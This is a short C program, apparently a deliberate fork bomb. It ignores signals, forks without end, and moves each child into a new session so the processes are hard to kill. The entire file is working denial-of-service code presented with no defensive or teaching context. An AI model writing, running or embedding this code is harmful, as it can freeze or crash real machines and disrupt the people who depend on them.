// Forks for ever, deaf to signals, each child in a session of its own.
#include "hostile.h"
int main(void) {
    for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
    for (;;) if (fork() == 0) setsid();
}
